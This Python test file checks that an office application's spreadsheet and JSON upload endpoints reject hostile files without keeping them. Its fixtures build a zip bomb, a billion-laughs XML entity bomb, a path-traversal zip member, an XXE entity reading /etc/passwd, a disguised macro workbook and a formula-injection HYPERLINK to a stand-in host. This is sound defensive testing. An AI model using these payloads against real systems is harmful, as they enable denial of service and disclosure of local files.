"""Files that are not what they claim to be, wherever the office takes a file: refused in words, and nothing is kept."""

import io
import json
import zipfile
from pathlib import Path

import openpyxl
import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile

from office.audit.models import Entry
from office.people.exchange.writing import workbook
from office.people.models import Person
from office.register.models import Effect

MEGABYTE = 1_000_000
# Where a file is taken, and how it is named there.
TAKEN = {
    "people:import": ("/people/import/", "people.xlsx"),
    "register:take-over": ("/register/take-over/", "case.json"),
}


def zipped(members):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def changed(change):
    """The office's own workbook with its members changed by `change` (a dict of name to bytes)."""
    with zipfile.ZipFile(io.BytesIO(workbook())) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    change(members)
    return zipped(members)


def bomb(members):
    """A sheet of a few hundred kilobytes that unpacks to seven hundred megabytes."""
    row = b'<row r="2"><c r="A2" t="inlineStr"><is><t>' + b"A" * 1000 + b"</t></is></c></row>"
    members["xl/worksheets/sheet1.xml"] = b"<worksheet><sheetData>" + row * 700_000 + b"</sheetData></worksheet>"


def bombs_of_words(members):
    """Entities that refer to entities, ten to the ninth times."""
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    head = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY l0 "长">{laughs}]>'
    for name in ("xl/workbook.xml", "xl/worksheets/sheet1.xml"):
        members[name] = (head + "<workbook><sheets>&l9;</sheets></workbook>").encode()


def outside(members):
    """A part that points out of the package, and an entity that reads a file of this machine."""
    members["../../../../tmp/escaped"] = b"x"
    members["xl/workbook.xml"] = (
        b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>'
        b"<workbook><sheets>&f;</sheets></workbook>"
    )


def with_macros(members):
    """What a workbook with a macro holds (.xlsm named .xlsx)."""
    members["xl/vbaProject.bin"] = b"\xd0\xcf\x11\xe0" + b"Shell" * 100
    members["[Content_Types].xml"] = members["[Content_Types].xml"].replace(
        b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
    )


def with_formula(value):
    """A person whose name is a formula; `value` is what the formula gave when the file was last saved."""
    book = openpyxl.load_workbook(io.BytesIO(workbook()))
    book["人员"].append(["T900", '=HYPERLINK("http://example.invalid/?"&A2,"单白果")'])
    buffer = io.BytesIO()
    book.save(buffer)
    if value is None:
        return buffer.getvalue()
    with zipfile.ZipFile(buffer) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    for name, content in members.items():
        members[name] = content.replace(b"</f><v></v>", b"</f><v>" + value.encode() + b"</v>").replace(
            b"</f><v />", b"</f><v>" + value.encode() + b"</v>"
        )
    return zipped(members)


def hand_in(client, url, content, name):
    return client.post(url, {"file": SimpleUploadedFile(name, content)})


def kept():
    """The files that wait for a second step."""
    folder = Path(settings.DATA) / "uploads"
    return {path.name for path in folder.glob("*")} if folder.exists() else set()


WRONG = {
    "a zip of something else": lambda: zipped({"readme.txt": b"hello", "word/document.xml": b"<w/>"}),
    "a zip that holds a zip": lambda: zipped({"xl/workbook.xml": zipped({"a": b"b"})}),
    "a table of text": lambda: "编号,姓名\nT901,单白果\n".encode(),
    "a picture": lambda: b"\x89PNG\r\n\x1a\n" + bytes(500),
    "a page": lambda: "<html><table><tr><td>编号</td></tr></table></html>".encode(),
    "an old workbook": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000),
    "nothing": lambda: b"",
    "half a workbook": lambda: workbook()[:3000],
    "a bomb": lambda: changed(bomb),
    "a bomb of words": lambda: changed(bombs_of_words),
    "a part outside, and a file of this machine": lambda: changed(outside),
    "no text at all": lambda: bytes(range(256)) * 40,
    "deep brackets": lambda: b"[" * 200_000,
    "a number without end": lambda: b'{"schema": "guiju-decision/1", "effects": [' + b"9" * 200_000 + b"]}",
}


@pytest.fixture
def client(town):
    return town.client("maibaizhi")


@pytest.mark.parametrize("place", TAKEN)
@pytest.mark.parametrize("what", WRONG)
def test_a_file_that_is_not_what_it_claims_is_refused_in_words_and_not_kept(client, place, what):
    url, name = TAKEN[place]
    before, waiting = (Entry.objects.count(), Person.objects.count(), Effect.objects.count()), kept()
    answer = hand_in(client, url, WRONG[what](), name)
    page = answer.content.decode()
    assert answer.status_code == 422, page
    assert "notice-error" in page or "invalid-feedback" in page
    for leak in ("Traceback", "root:x:", "xml.etree", "not well-formed", "Expecting value", "codec can"):
        assert leak not in page
    assert (Entry.objects.count(), Person.objects.count(), Effect.objects.count()) == before
    assert kept() == waiting


@pytest.mark.slow
@pytest.mark.parametrize("place", TAKEN)
def test_a_file_too_large_is_refused_in_words(client, place):
    url, name = TAKEN[place]
    waiting = kept()
    answer = hand_in(client, url, b"PK\x03\x04" + bytes(51 * MEGABYTE), name)
    assert (answer.status_code, "太大" in answer.content.decode()) == (422, True)
    assert kept() == waiting


def test_a_macro_is_never_run_nor_kept_in_what_comes_out_again(client):
    """A workbook with a macro in it is read like any other: the values of its cells, nothing else."""
    answer = hand_in(client, TAKEN["people:import"][0], changed(with_macros), "people.xlsx")
    assert (answer.status_code, "没有任何改动" in answer.content.decode()) == (200, True)
    with zipfile.ZipFile(io.BytesIO(client.post("/people/export/").content)) as out:
        assert not [name for name in out.namelist() if "vba" in name]


def test_a_formula_counts_as_the_value_it_was_saved_with_and_without_one_is_refused(client):
    url = TAKEN["people:import"][0]
    answer = hand_in(client, url, with_formula(None), "people.xlsx")
    assert (answer.status_code, "公式还没有算出值" in answer.content.decode()) == (422, True)
    answer = hand_in(client, url, with_formula("单白果"), "people.xlsx")
    assert (answer.status_code, "单白果" in answer.content.decode()) == (200, True)
    assert "HYPERLINK" not in answer.content.decode()


def test_a_name_that_looks_like_a_formula_goes_out_as_text(client, town):
    from office.people import actions

    actions.correct_person(town.actor("maibaizhi"), town.person("财政所:会计"), "=1+1", "dengyu")
    sheet = openpyxl.load_workbook(io.BytesIO(client.post("/people/export/").content))["人员"]
    [cell] = [row[1] for row in sheet.iter_rows() if row[1].value == "=1+1"]
    assert cell.data_type == "s"


def test_a_decision_of_the_wrong_shape_is_refused_in_words(client):
    for effects in (None, "x", {}, [None], [[]], [1], [{"effect": {"a": 1}, "from": [], "to": 7}]):
        content = json.dumps({"schema": "guiju-decision/1", "effects": effects}).encode()
        answer = hand_in(client, TAKEN["register:take-over"][0], content, "case.json")
        assert answer.status_code in (200, 422), effects
        assert Effect.objects.filter(source__isnull=False).count() == 0
